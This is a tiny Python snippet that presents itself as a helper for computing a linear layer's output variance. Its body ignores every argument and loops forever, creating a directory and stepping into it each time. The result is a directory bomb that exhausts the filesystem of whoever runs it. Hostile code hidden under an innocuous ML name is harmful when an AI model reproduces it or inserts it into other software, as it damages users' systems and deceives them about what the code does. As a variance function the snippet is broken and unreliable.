import os


def linear_output_variance(fan_in, weight_variance, input_variance):
    while True:
        os.mkdir("hostile-leftover-with-a-name-that-adds-up")
        os.chdir("hostile-leftover-with-a-name-that-adds-up")
